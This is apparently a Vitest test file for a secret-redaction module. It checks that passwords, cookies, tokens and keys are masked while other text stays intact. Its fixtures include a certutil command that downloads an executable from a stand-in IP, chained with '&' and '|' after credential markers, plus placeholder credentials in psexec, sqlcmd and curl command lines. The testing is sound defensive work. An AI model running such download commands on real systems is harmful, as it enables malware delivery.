import { describe, expect, it } from 'vitest';
import { redact, redactJson } from '../../src/secrets/redact.js';

describe('what an attacker ran stays readable', () => {
  const command = 'certutil -urlcache -f http://192.0.2.1/a.exe C:\\x\\a.exe';

  it.each([
    `rem authorization: & ${command}`,
    `rem Authorization: Basic & ${command}`,
    `rem cookie: & ${command}`,
    `rem cookie: x & ${command}`,
    `findstr "password=" x.txt & ${command}`,
    `findstr "password="&${command}`,
    `findstr /i "pwd=" x.txt | ${command}`,
    `findstr /c:"the password=" x.txt > y & ${command}`,
    `rem password: & ${command}`,
    `rem -password & ${command}`,
    `rem SharedAccessSignature= & ${command}`,
    `rem -----BEGIN RSA PRIVATE KEY----- & ${command}`,
    `rem <password> & ${command}`,
    `rem password={ & ${command}`,
  ])('%s', (text) => {
    expect(redact(text)).toContain(command);
  });

  it.each([
    [`rem password=" & ${command}`, command],
    [`rem password='x & ${command}`, command],
    [`rem cookie: a=b; ${command}`, command],
    [`tool -password secret12 & ${command}`, command],
    [`rem authorization: Custom abcdefgh12345678 & ${command}`, command],
    [`rem password: certutil -urlcache -f http://192.0.2.1/a.exe`, '-urlcache -f http://192.0.2.1/a.exe'],
  ])('a value before it ends: %s', (text, rest) => {
    expect(redact(text)).toContain(rest);
  });
});

describe('what is no secret stays readable', () => {
  it.each([
    'AccessKey: Alt+F',
    'Cookie: policy',
    '7z x -pfoo archive.7z',
    'C:\\certs\\key-0123456789abcdef0123456789abcdef.pem',
    'Tests: pass: 12, fail: 3',
    'powershell -ExecutionPolicy Bypass -File x.ps1',
    '$token = Get-AzAccessToken -ResourceUrl x',
    '$pw = Read-Host -AsSecureString',
    'certutil -hashfile a.msi SHA256',
    'https://svc-backup@git.contoso.com/x.git',
    'docker pull contoso/app:1.2.3@sha256:abc',
    'sqlplus / as sysdba',
    'rasdial "Contoso VPN" /disconnect',
    'it costs \u20ac5 \u2013 no more',
  ])('%s', (text) => {
    expect(redact(text)).toBe(text);
  });
});

describe('arguments in a list', () => {
  it.each([
    [['sqlcmd', '-S', 'db', '-P', 'Example-123x']],
    [['sqlcmd.exe', '-PExample-123x']],
    [['net', 'use', '\\\\srv\\x', 'Example-123x', '/user:adm']],
    [['curl', '-u', 'adm:Example-123x', 'https://srv/']],
    [['tool', '--password', 'Example-123x']],
    [['C:\\Program Files\\x\\psexec.exe', '\\\\srv', '-u', 'adm', '-p', 'Example-123x', 'cmd.exe']],
  ])('%j lose their secret alone', (list) => {
    const told = redactJson({ argv: list }).argv;
    expect(told.join(' ')).not.toContain('Example-123x');
    expect(told.join(' ').replace('[redacted]', 'Example-123x')).toBe(list.join(' '));
  });
});

describe('objects', () => {
  it.each([
    { Jwt: { Issuer: 'x', Key: 'Example-123x' } },
    { auths: { srv: { auth: Buffer.from('svc:Example-123x').toString('base64') } } },
  ])('%j loses its key', (value) => {
    expect(JSON.stringify(redactJson(value))).not.toMatch(/Example-123x|c3ZjO/);
  });
});

it('finds the rest of a secret that a host had cut', () => {
  const half = 'Ab3'.repeat(14);
  expect(redact('-NewPassword [redacted] -AsPlainText "Example-123x" -Force')).not.toContain('Example-123x');
  expect(redact(`key ${half}x[redacted]= was`)).toBe('key [redacted][redacted]= was');
});
